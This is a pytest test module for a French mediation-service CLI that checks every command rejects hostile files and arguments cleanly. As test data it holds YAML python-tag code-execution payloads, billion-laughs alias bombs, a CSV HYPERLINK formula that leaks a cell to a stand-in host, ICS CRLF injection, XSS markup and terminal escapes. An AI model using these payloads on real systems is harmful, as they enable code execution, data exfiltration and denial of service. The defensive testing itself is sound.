"""Hostile and wrong input: every command answers with a message and an exit code.

Property-based (hypothesis): catalogue, team and record files are generated
from valid ones by random mutations — wrong types, unknown fields, huge
strings, deep nesting, billion-laughs aliases, `!!python/*` tags, invalid
UTF-8, BOMs, CRLF, tabs, truncation — then every command that reads them
must exit 0, 1 or 2 with a message, never a traceback, never run code.
"""

from __future__ import annotations

import datetime as dt
import os
import re
import resource
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from conftest import FILES, NOW, write_folder
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mediatool.cli import cli
from mediatool.store.records import event_to_document
from mediatool.store.yamltext import MAX_DEPTH, YamlSyntaxError, dump_document, load_documents

REPO = Path(__file__).resolve().parent.parent
# HOSTILE_EXAMPLES=500 HOSTILE_EXPLORE=1 for a deeper, randomly seeded run.
PROPERTY = settings(max_examples=int(os.environ.get("HOSTILE_EXAMPLES", "60")), deadline=None,
                    derandomize=not os.environ.get("HOSTILE_EXPLORE"),
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                           HealthCheck.function_scoped_fixture])

# Every command that reads the files; those of other issues join once they exist.
COMMANDS: list[list[str]] = [["check"], ["catalogue", "check"], ["catalogue", "search", "caf"]]
for optional in (["report", "--month", "2026-11"], ["agenda", "--week", "2026-12-07"],
                 ["calls"], ["path", "list"], ["slots", "--days", "2"],
                 ["purge", "--before", "2026-11-30", "--dry-run"]):
    if optional[0] in cli.commands:
        COMMANDS.append(optional)

LAUGHS = "&l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]\n" for i in range(1, 10))
LAUGHS_ROOT = "l0: " + LAUGHS + "boom: *l9\n"


def _hostile_scalars(marker: Path) -> list[str]:
    """Raw YAML pasted where a value goes: each one wrong in its own way."""
    return [
        f'!!python/object/apply:os.system ["touch {marker}"]',
        f"!!python/object/new:subprocess.Popen [[touch, '{marker}']]",
        "!!python/name:os.system",
        "*l9", "&me [*me]", "*nowhere",
        "[" * 3000 + "]" * 3000, "{a: " * 200 + "1" + "}" * 200,
        "14:00", "09:30", "12/01/2026", "01/12/2026 14:00", "2026-12-07 10:00:00",
        "2026-13-45", "1e400", "-.inf", ".nan", "0x1F", "0o777", "1_000", "~", "yes", "no",
        "!!binary aGVsbG8=", "!!set {a, b}", "!!omap [a: 1]", "!!timestamp 2026-12-07",
        "'unterminated", '"\\ud800 lone surrogate"', '"\\0 nul"', "|\n  bloc\n  texte",
        "x" * 200_000, "é" * 5_000, "- a\n- b", "{}", "[]", "''", "!!str 12", "? [a]\n: b",
        "<<: *l1",
    ]


def values() -> st.SearchStrategy[Any]:
    """Wrong types: any YAML-representable value, nested a little."""
    scalars = st.one_of(st.none(), st.booleans(), st.integers(min_value=-10**30, max_value=10**30),
                        st.floats(allow_nan=True), st.text(max_size=30),
                        st.dates(), st.datetimes(timezones=st.just(dt.UTC)))
    return st.recursive(scalars, lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)),
        max_leaves=12)


@st.composite
def mutated(draw: st.DrawFn, value: Any, marker: Path) -> bytes:
    """A YAML file derived from `value` by random structural and textual damage."""
    hostile = _hostile_scalars(marker)
    sentinels: dict[str, str] = {}

    def mutate(node: Any, depth: int) -> Any:
        choice = draw(st.integers(0, 9))
        if depth and choice == 0:
            return draw(values())
        if depth and choice == 1:
            key = f"ZZHOSTILE{len(sentinels)}ZZ"
            sentinels[key] = draw(st.sampled_from(hostile))
            return key
        if isinstance(node, dict):
            out = {}
            for k, v in node.items():
                if draw(st.integers(0, 12)) == 0:
                    continue  # a field removed
                out[k] = mutate(v, depth + 1)
            if draw(st.integers(0, 12)) == 0:
                out[draw(st.text(min_size=1, max_size=10))] = draw(values())
            return out
        if isinstance(node, list):
            return [mutate(v, depth + 1) for v in node[: draw(st.integers(0, len(node)))]]
        return node

    text = yaml.safe_dump(mutate(value, 0), allow_unicode=True, sort_keys=False)
    for key, raw in sentinels.items():
        text = text.replace(key, raw.replace("\n", "\n    "))
    if draw(st.booleans()):
        text = re.sub(r"'(\d\d:\d\d)'", r"\1", text)  # times left unquoted
    if draw(st.integers(0, 4)) == 0 and text[:1].isalpha():
        text = LAUGHS_ROOT + text  # a mapping: the aliases arrive as extra keys
    if draw(st.integers(0, 5)) == 0:
        text = text.replace("  ", "\t")
    if draw(st.integers(0, 5)) == 0:
        text = text.replace("\n", "\r\n")
    if draw(st.integers(0, 8)) == 0:
        text = text[: draw(st.integers(0, len(text)))]
    data = text.encode("utf-8", errors="surrogatepass")
    if draw(st.integers(0, 5)) == 0:
        data = b"\xef\xbb\xbf" + data
    if draw(st.integers(0, 8)) == 0 and data:
        at = draw(st.integers(0, len(data) - 1))
        data = data[:at] + draw(st.sampled_from([b"\xff", b"\xc3", b"\x00", b"\xe9"])) + data[at:]
    return data


def _some_commands(data: st.DataObject) -> list[list[str]]:
    """`check` and two other commands, so each one meets many files in a bounded time."""
    others = data.draw(st.lists(st.sampled_from(COMMANDS[1:]), min_size=2, max_size=2,
                                unique_by=tuple))
    return [COMMANDS[0], *others]


def _assert_every_command_answers(root: Path, marker: Path,
                                  commands: list[list[str]] = COMMANDS) -> None:
    for args in commands:
        result = CliRunner().invoke(cli, ["--data", str(root), *args])
        where = f"mediatool {' '.join(args)}"
        assert isinstance(result.exception, SystemExit | None), \
            f"{where}: {result.exception!r}"
        assert result.exit_code in (0, 1, 2), f"{where}: exit {result.exit_code}\n{result.output}"
        assert "Traceback" not in result.output and "Erreur inattendue" not in result.output, \
            f"{where}:\n{result.output[-2000:]}"
        if result.exit_code:
            assert "erreur" in result.output.lower(), \
                f"{where} failed without saying why:\n{result.output[-500:]}"
        assert not marker.exists(), f"{where} ran code from a YAML tag"


def _catalogue_value(name: str) -> Any:
    return yaml.safe_load(textwrap.dedent(FILES[name]))


@pytest.fixture(autouse=True)
def _fixed_clock(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MEDIATOOL_NOW", NOW)
    monkeypatch.delenv("MEDIATOOL_DATA", raising=False)


@pytest.mark.parametrize("name", ["procedures.yaml", "organisations.yaml", "skills.yaml",
                                  "team.yaml"])
@PROPERTY
@given(data=st.data())
def test_mangled_catalogue_files_never_crash_a_command(name: str, data: st.DataObject) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        marker = Path(tmp) / "PWNED"
        root = write_folder(Path(tmp) / "data")
        (root / "catalogue" / name).write_bytes(data.draw(mutated(_catalogue_value(name),
                                                                  marker)))
        _assert_every_command_answers(root, marker, _some_commands(data))


def _valid_records() -> dict[str, list[dict[str, Any]]]:
    from mediatool.core.model import (
        AppointmentBooked,
        AppointmentCancelled,
        CallRecorded,
        DropinTally,
        PathOpened,
    )

    paris = dt.timezone(dt.timedelta(hours=1))
    at = dt.datetime(2026, 11, 3, 10, 0, tzinfo=paris)
    start = dt.datetime(2026, 11, 5, 9, 30, tzinfo=paris)
    return {
        "appointments": [event_to_document(e) for e in (
            AppointmentBooked(id="A-7K3QX2", event="booked", at=at, by="camille",
                              mediator="camille", kind="demarche", start=start,
                              duration_min=45, person="Jeanne Martin", phone="06 12 34 56 78",
                              procedure="caf-prime-activite"),
            AppointmentCancelled(id="A-7K3QX2", event="cancelled", at=at, by="camille",
                                 by_person=True))],
        "calls": [event_to_document(CallRecorded(
            id="C-4M2PQ8", event="call", at=at, by="camille", outcome="dropin", in_shift=True,
            duration_min=6, procedure="ants-carte-grise", note="rappeler jeudi"))],
        "paths": [event_to_document(PathOpened(
            id="P-9Q8RS1", event="opened", at=at, by="camille", person="Paul Durand",
            mediator="camille", skills=("2.1",), sessions=3))],
        "dropins": [event_to_document(DropinTally(
            id="D-2B3C4D", event="tally", at=at, by="camille", site="centre",
            date=dt.date(2026, 11, 2), seen=9, refused=2))],
    }


RECORDS = _valid_records()


@pytest.mark.parametrize("kind", sorted(RECORDS))
@PROPERTY
@given(data=st.data())
def test_mangled_record_files_never_crash_a_command(kind: str, data: st.DataObject) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        marker = Path(tmp) / "PWNED"
        root = write_folder(Path(tmp) / "data")
        parts = []
        for document in RECORDS[kind] * data.draw(st.integers(1, 3)):
            body = data.draw(mutated(document, marker))
            parts.append(data.draw(st.sampled_from([b"---\n" + body + b"...\n",
                                                     b"---\n" + body, body])))
        path = root / "records" / kind / "2026-11.yaml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"".join(parts))
        _assert_every_command_answers(root, marker, _some_commands(data))


@PROPERTY
@given(raw=st.binary(max_size=300) | st.text(max_size=300).map(str.encode))
def test_random_bytes_anywhere_never_crash_a_command(raw: bytes) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        marker = Path(tmp) / "PWNED"
        root = write_folder(Path(tmp) / "data")
        (root / "catalogue" / "team.yaml").write_bytes(raw)
        path = root / "records" / "calls" / "2026-11.yaml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        _assert_every_command_answers(root, marker)


# ---- the specific rules, with their positions -------------------------------

def test_unquoted_time_is_rejected_with_its_line(run, folder: Path) -> None:
    team = (folder / "catalogue" / "team.yaml")
    team.write_text(team.read_text().replace('start: "14:00"', "start: 14:00"))
    result = run("check")
    assert result.exit_code == 1
    line = next(i for i, text in enumerate(team.read_text().splitlines(), 1)
                if "start: 14:00" in text)
    assert f"catalogue/team.yaml:{line}" in result.output
    assert "840" in result.output and '"14:00"' in result.output


@pytest.mark.parametrize("ambiguous", ["12/01/2026", "01-12-2026", "2026/12/01", "1 déc. 2026"])
def test_ambiguous_dates_are_rejected_with_their_line(run, folder: Path, ambiguous: str) -> None:
    team = folder / "catalogue" / "team.yaml"
    team.write_text(team.read_text().replace("{start: 2026-12-24,", f"{{start: {ambiguous},"))
    result = run("catalogue", "check")
    assert result.exit_code == 1
    line = next(i for i, text in enumerate(team.read_text().splitlines(), 1)
                if ambiguous in text)
    assert f"catalogue/team.yaml:{line}" in result.output
    assert "AAAA-MM-JJ" in result.output


def test_ambiguous_date_in_a_record_is_rejected_with_its_line(run, folder: Path) -> None:
    document = dict(RECORDS["dropins"][0], date="12/01/2026")
    path = folder / "records" / "dropins" / "2026-11.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(dump_document(RECORDS["dropins"][0]) + dump_document(document))
    result = run("check")
    assert result.exit_code == 1
    line = 1 + next(i for i, text in enumerate(path.read_text().splitlines())
                    if "12/01/2026" in text)
    assert f"records/dropins/2026-11.yaml:{line}" in result.output


def test_python_tags_never_run(run, folder: Path, tmp_path: Path) -> None:
    marker = tmp_path / "PWNED"
    for name in ("team.yaml", "procedures.yaml"):
        (folder / "catalogue" / name).write_text(
            f'service: !!python/object/apply:os.system ["touch {marker}"]\n')
    path = folder / "records" / "calls" / "2026-11.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f'---\nid: !!python/object/apply:os.system ["touch {marker}"]\n...\n')
    for args in COMMANDS:
        result = run(*args)
        assert result.exit_code in (1, 2), result.output
        assert "étiquette YAML interdite" in result.output
    assert not marker.exists()


def test_deep_flow_nesting_is_refused_quickly_with_its_line() -> None:
    started = time.perf_counter()
    with pytest.raises(YamlSyntaxError) as caught:
        load_documents("---\nid: x\n...\n---\nnote: " + "[" * 50_000 + "]" * 50_000 + "\n...\n")
    assert time.perf_counter() - started < 1.0
    assert caught.value.line == 5 and "profonde" in caught.value.message
    assert MAX_DEPTH < 100


def _run_limited(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """Run mediatool in a process that cannot take more than 1 GiB of memory."""
    limit = 1 << 30

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    env = {**os.environ, "PYTHONPATH": str(REPO), "MEDIATOOL_NOW": NOW}
    return subprocess.run([sys.executable, "-m", "mediatool", "--data", str(root), *args],
                          capture_output=True, text=True, env=env, timeout=60, preexec_fn=cap)


def test_billion_laughs_stay_small_and_fast(tmp_path: Path) -> None:
    root = write_folder(tmp_path / "data")
    (root / "catalogue" / "skills.yaml").write_text(LAUGHS_ROOT)
    path = root / "records" / "appointments" / "2026-11.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    booked = dump_document(RECORDS["appointments"][0]).removesuffix("...\n")
    path.write_text(booked + LAUGHS_ROOT.replace("boom:", "note:") + "...\n"
                    + "---\n" + LAUGHS_ROOT.replace("boom:", "event:") + "...\n")
    started = time.perf_counter()
    done = _run_limited(root, "check")
    assert time.perf_counter() - started < 30
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stdout + done.stderr
    assert "catalogue/skills.yaml:" in done.stdout and "alias" in done.stdout
    assert "records/appointments/2026-11.yaml:" in done.stdout


def test_every_command_under_test_works_on_a_valid_folder(run) -> None:
    """Guards the property tests: a command failing on good data proves nothing."""
    for args in COMMANDS:
        result = run(*args)
        assert result.exit_code == 0, f"mediatool {' '.join(args)}:\n{result.output}"


# ---- issue 20 #8: CSV formula injection ---------------------------------------------------

@given(st.text(min_size=1, max_size=40))
@settings(max_examples=200, deadline=None)
def test_no_csv_cell_can_start_a_formula(text: str) -> None:
    from mediatool.formats.report import neutralise_cell
    cell = neutralise_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.endswith(text)


@pytest.mark.parametrize("dialect", ["excel", "excel-fr"])
def test_a_formula_in_the_catalogue_is_text_in_report_csv(run, folder: Path, dialect: str) -> None:
    import csv
    import io
    team = folder / "catalogue" / "team.yaml"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    team.write_text(team.read_text(encoding="utf-8").replace(
        "service: Service de test", "service: '" + hostile.replace("'", "''") + "'"),
        encoding="utf-8")
    result = run("report", "--month", "2026-11", "--format", "csv", "--csv-dialect", dialect)
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.output.lstrip("\ufeff")),
                                     delimiter=";" if dialect == "excel-fr" else ",")
             for c in row]
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert any(c == "'" + hostile for c in cells) or hostile not in result.output


# ---- issue 20 #7: ICS property injection through a record id ----------------------------

def test_an_injected_id_never_adds_calendar_properties(run, folder: Path, tmp_path: Path) -> None:
    booked = run("book", "--mediator", "camille", "--kind", "demarche", "--procedure",
                 "caf-prime-activite", "--person", "Alice A.", "--at", "2026-12-08 14:00",
                 "--format", "json")
    assert booked.exit_code == 0, booked.stderr
    good = re.search(r'"id": "(A-[0-9A-Z]+)"', booked.output).group(1)
    month = folder / "records" / "appointments" / "2026-12.yaml"
    hostile = 'A-EVIL1\\r\\nX-INJECTED:yes\\r\\nSUMMARY:Rendez-vous annulé, ne venez pas'
    month.write_text(month.read_text(encoding="utf-8").replace(f"id: {good}", f'id: "{hostile}"'),
                     encoding="utf-8")
    checked = run("check")
    assert checked.exit_code != 0 and "invalide" in checked.output + checked.stderr
    out = tmp_path / "ics"
    exported = run("export-ics", "--out", str(out))
    assert exported.exit_code != 0
    for path in out.glob("*.ics") if out.exists() else []:
        assert b"X-INJECTED" not in path.read_bytes()


def test_a_slug_with_a_trailing_newline_is_refused() -> None:
    from mediatool.core.fields import SLUG_PATTERN, _compiled
    assert _compiled(SLUG_PATTERN).fullmatch("lea")
    assert not _compiled(SLUG_PATTERN).fullmatch("lea\n")


def test_a_line_break_inside_a_property_never_starts_another() -> None:
    from mediatool.formats.ics import appointment_uid, fold
    assert fold("SUMMARY:a\r\nX-INJECTED:yes").count(b"\r\n") == 1
    assert b"\r\n" not in appointment_uid("A-X\r\nX-INJECTED:yes").encode()


# ---- issue 20 #9: markdown report escaping ------------------------------------------------

MARKUP = "<script>alert(1)</script> | <img src=x onerror=alert(2)> <svg onload=alert(3)>"


def _unescaped_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)\|", line))


def test_markup_from_the_catalogue_stays_text_in_the_markdown_report(run, folder: Path) -> None:
    team = folder / "catalogue" / "team.yaml"
    team.write_text(team.read_text(encoding="utf-8").replace(
        "service: Service de test", f"service: '{MARKUP}'").replace(
        "{id: centre, name: Centre}", "{id: centre, name: 'Centre | <b>x</b> [clic](http://evil)'}"),
        encoding="utf-8")
    procedures = folder / "catalogue" / "procedures.yaml"
    procedures.write_text(procedures.read_text(encoding="utf-8").replace(
        "title: Demander la prime d'activité", f"title: '{MARKUP}'"), encoding="utf-8")
    assert run("dropin", "--site", "centre", "--date", "2026-12-07", "--seen", "3",
               "--refused", "1").exit_code == 0
    assert run("call", "--procedure", "caf-prime-activite", "--outcome", "dropin").exit_code == 0
    result = run("report", "--month", "2026-12", "--format", "markdown")
    assert result.exit_code == 0, result.output
    text = result.output
    for tag in ("<script", "<img", "<svg", "<b>"):
        assert tag not in text, tag
    assert "&lt;script&gt;" not in text and "&lt;script>" in text  # shown, not run
    assert "[clic](" not in text and "\\[clic\\](" in text  # no link
    tables = [line for line in text.splitlines() if line.startswith("|")]
    assert tables
    header_pipes = None
    for line in text.splitlines():
        if not line.startswith("|"):
            header_pipes = None
            continue
        header_pipes = header_pipes or _unescaped_pipes(line)
        assert _unescaped_pipes(line) == header_pipes, line  # no cell split by a « | »


@given(st.text(max_size=40))
@settings(max_examples=200, deadline=None)
def test_no_markdown_text_can_open_a_tag_or_a_cell(text: str) -> None:
    from mediatool.formats.report import markdown_text
    escaped = markdown_text(text)
    assert "<" not in escaped and "\n" not in escaped
    assert _unescaped_pipes(escaped) == 0


# ---- issue 20 #10: every free text is anonymous; fragments are checked and purged ----------

PERSONAL = "rappeler Mme Dupont au 06 12 34 56 78"


def _record_files(folder: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for p in (folder / "records").rglob("*.yaml")}


def _booked(run) -> str:
    booked = run("book", "--mediator", "camille", "--kind", "demarche", "--procedure",
                 "caf-prime-activite", "--person", "Alice A.", "--at", "2026-12-08 14:00")
    assert booked.exit_code == 0, booked.stderr
    return re.search(r"A-[0-9A-Z]{9}", booked.output).group(0)


@pytest.mark.parametrize("args", [
    ["book", "--mediator", "camille", "--kind", "demarche", "--procedure",
     "caf-prime-activite", "--person", "Alice A.", "--at", "2026-12-10 09:00", "--note", PERSONAL],
    ["path", "open", "--person", "Odette R.", "--mediator", "camille", "--skills", "2.1",
     "--sessions", "2", "--note", PERSONAL],
    ["dropin", "--site", "centre", "--date", "2026-11-30", "--seen", "3", "--refused", "0",
     "--note", PERSONAL],
    ["call", "--query", "Mme Dupont carte grise", "--outcome", "other"],
    ["reschedule", "{id}", "--at", "2026-12-10 09:00", "--reason", PERSONAL],
    ["attended", "{id}", "--note", "nadia(at)gmail.com"],
])
def test_a_free_text_with_personal_data_is_refused_everywhere(run, folder: Path, monkeypatch,
                                                              args: list[str]) -> None:
    appointment = _booked(run)
    if args[0] == "attended":
        monkeypatch.setenv("MEDIATOOL_NOW", "2026-12-08T15:00:00+01:00")
    before = _record_files(folder)
    runner = CliRunner()
    result = runner.invoke(cli, ["--data", str(folder), *[a.replace("{id}", appointment)
                                                            for a in args]])
    assert result.exit_code == 2, result.output
    assert "anonymes" in result.output
    assert _record_files(folder) == before


FRAGMENT = ("---\nid: A-7K3QX2\nevent: booked\nat: '2026-09-01T10:00:00+02:00'\nby: camille\n"
            "mediator: camille\nkind: demarche\nstart: '2026-09-03T09:00:00+02:00'\n"
            "duration_min: 45\nperson: Jeanne Martin\nphone: 06 12 34 56 78\nnote: |\n"
            "  Mme Dupont, sa voisine\n")


def test_broken_fragments_are_reported_and_purged(run, folder: Path) -> None:
    month = folder / "records" / "appointments"
    month.mkdir(parents=True, exist_ok=True)
    fragment = month / "2026-09.yaml.broken-20261001T100000"
    fragment.write_text(FRAGMENT, encoding="utf-8")
    checked = run("check")
    assert "2026-09.yaml.broken-20261001T100000" in checked.output
    assert "données personnelles" in checked.output
    dry = run("purge", "--before", "2026-11-01", "--dry-run")
    assert dry.exit_code == 0 and "broken" in dry.output, dry.output
    assert fragment.read_text(encoding="utf-8") == FRAGMENT
    done = run("purge", "--before", "2026-11-01")
    assert done.exit_code == 0, done.output
    text = fragment.read_text(encoding="utf-8")
    for personal in ("Jeanne", "06 12", "Dupont", "voisine"):
        assert personal not in text
    assert "id: A-7K3QX2" in text and "start:" in text
    assert "fragment nettoyé" in (folder / "records" / "audit.log").read_text(encoding="utf-8")
    assert "données personnelles" not in run("check").output


def test_a_recent_fragment_is_left_to_the_team(run, folder: Path) -> None:
    fragment = folder / "records" / "appointments" / "2026-12.yaml.broken-20261207T090000"
    fragment.parent.mkdir(parents=True, exist_ok=True)
    fragment.write_text(FRAGMENT, encoding="utf-8")
    assert run("purge", "--before", "2026-11-01").exit_code == 0
    assert fragment.read_text(encoding="utf-8") == FRAGMENT


# ---- issue 20 #12, #13, #15: what people type ----------------------------------------------

@pytest.mark.parametrize("person, says", [
    ("\x1b]0;pwn\x07", "U+001B"),
    ("\u200b", "U+200B"),
    ("Alice\u202eevil", "U+202E"),
    ("Ali\u2028ce", "U+2028"),
    ("Ali\x85ce", "U+0085"),  # C1
    ("   ", "une lettre"),
    ("12345", "une lettre"),
    ("Ren\udce9e", "UTF-8"),
    ("x" * 10_000_000, "trop long"),
])
def test_a_hostile_name_is_refused_and_nothing_recorded(run, folder: Path, person: str,
                                                        says: str) -> None:
    started = time.perf_counter()
    result = run("book", "--mediator", "camille", "--kind", "demarche", "--procedure",
                 "caf-prime-activite", "--person", person, "--at", "2026-12-08 14:00")
    assert time.perf_counter() - started < 5
    assert result.exit_code == 2, result.output[-300:]
    assert says in result.stderr and "--person" in result.stderr
    assert "\x1b" not in result.stderr and len(result.stderr) < 1000
    assert not _record_files(folder)


@pytest.mark.parametrize("args", [
    ["cancel", "A-" + "X" * 10_000_000],
    ["book", "--mediator", "camille", "--kind", "demarche", "--procedure",
     "caf-prime-activite", "--person", "Alice A.", "--at", "2026-12-08 14:00",
     "--from-call", "C-" + "Y" * 10_000_000],
    ["catalogue", "search", "carte grise " * 1_000_000],
    ["call", "--procedure", "ants-carte-grise", "--outcome", "dropin", "--note", "n" * 1001],
    ["cancel", "A-7K3QX2", "--reason", "r" * 301],
])
def test_huge_texts_are_refused_at_once(run, folder: Path, args: list[str]) -> None:
    started = time.perf_counter()
    result = run(*args)
    assert time.perf_counter() - started < 5
    assert result.exit_code == 2, result.output[-300:]
    assert "trop long" in result.stderr and "au plus" in result.stderr
    assert not _record_files(folder)


def test_bounds_of_typed_texts_come_from_the_model() -> None:
    from mediatool.cli import cli as root
    from mediatool.cli.common import Text
    from mediatool.core.fields import text_bound
    from mediatool.core.model import AppointmentBooked, AppointmentCancelled, CallRecorded

    book = root.commands["book"]
    person = next(p for p in book.params if p.name == "person")
    note = next(p for p in book.params if p.name == "note")
    assert isinstance(person.type, Text) and person.type.person
    assert person.type.max_length == text_bound(AppointmentBooked, "person")
    assert note.type.max_length == text_bound(AppointmentBooked, "note")
    reason = next(p for p in root.commands["cancel"].params if p.name == "reason")
    assert reason.type.max_length == text_bound(AppointmentCancelled, "reason")
    search = root.commands["catalogue"].commands["search"]  # type: ignore[attr-defined]
    assert search.params[0].type.max_length == text_bound(CallRecorded, "query")

    import click

    def plain(command: Any) -> list[str]:
        found = [f"{command.name} {p.name}" for p in command.params
                 if type(p.type) is click.types.StringParamType]
        for sub in getattr(command, "commands", {}).values():
            found += plain(sub)
        return found

    assert plain(root) == []  # every text option and argument is a Text


LATIN1 = b"Ren\xe9e"


@pytest.mark.parametrize("args", [
    [b"book", b"--mediator", b"camille", b"--kind", b"demarche", b"--procedure",
     b"caf-prime-activite", b"--person", LATIN1, b"--at", b"2026-12-08 14:00"],
    [b"call", b"--query", LATIN1, b"--outcome", b"other"],
    [b"report", b"--month", b"2026-11", b"--out", b"/tmp/" + LATIN1 + b".md"],
    [b"catalogue", b"search", LATIN1],
    [b"agenda", b"--week", LATIN1],
    [b"book", b"--kind=" + LATIN1],
])
def test_arguments_that_are_not_utf8_get_a_french_line(folder: Path, args: list[bytes]) -> None:
    env = {**os.environ, "PYTHONPATH": str(REPO), "MEDIATOOL_NOW": NOW, "LC_ALL": "C.UTF-8",
           "PYTHONIOENCODING": ""}
    done = subprocess.run([sys.executable.encode(), b"-m", b"mediatool", b"--data",
                           str(folder).encode(), *args], capture_output=True, env=env,
                          timeout=60)
    err = done.stderr.decode("utf-8")
    assert done.returncode == 2, err
    assert "UTF-8" in err and "Erreur :" in err
    assert "Traceback" not in err and "UnicodeEncodeError" not in err
    assert not _record_files(folder)
    assert not Path("/tmp/Ren\udce9e.md").exists()


TEXT_OPTIONS = [
    ["book", "--mediator", "camille", "--kind", "demarche", "--procedure", "caf-prime-activite",
     "--at", "2026-12-08 14:00", "--person", "{}"],
    ["book", "--mediator", "camille", "--kind", "demarche", "--procedure", "caf-prime-activite",
     "--at", "2026-12-08 14:00", "--person", "Alice A.", "--note", "{}"],
    ["book", "--mediator", "camille", "--kind", "demarche", "--procedure", "caf-prime-activite",
     "--at", "2026-12-08 14:00", "--person", "Alice A.", "--phone", "{}"],
    ["call", "--procedure", "ants-carte-grise", "--outcome", "dropin", "--note", "{}"],
    ["call", "--query", "{}", "--outcome", "other"],
    ["dropin", "--site", "{}", "--seen", "1", "--refused", "0"],
    ["path", "open", "--person", "{}", "--mediator", "camille", "--skills", "2.1",
     "--sessions", "2"],
    ["cancel", "{}"],
    ["catalogue", "search", "{}"],
    ["agenda", "--week", "{}"],
    ["slots", "--mediator", "{}"],
]
INVISIBLE = st.sampled_from(["\x00", "\x07", "\x1b", "\x7f", "\x9b", "\u200b", "\u200e",
                             "\u202e", "\u2066", "\ufeff", "\u2028", "\udce9", "\ue000"])


@PROPERTY
@given(template=st.sampled_from(TEXT_OPTIONS), before=st.text(max_size=12),
       bad=INVISIBLE, after=st.text(max_size=12))
def test_control_invisible_and_undecodable_characters_are_refused_in_every_text_option(
        template: list[str], before: str, bad: str, after: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        root = write_folder(Path(tmp) / "data")
        value = before + bad + after
        args = [a.replace("{}", value) for a in template]
        result = CliRunner().invoke(cli, ["--data", str(root), *args])
        assert isinstance(result.exception, SystemExit | None), repr(result.exception)
        assert result.exit_code == 2, (args, result.output[-400:])
        assert "Erreur :" in result.output and "Erreur inattendue" not in result.output
        assert bad not in result.output
        assert not list((root / "records").rglob("*.yaml"))
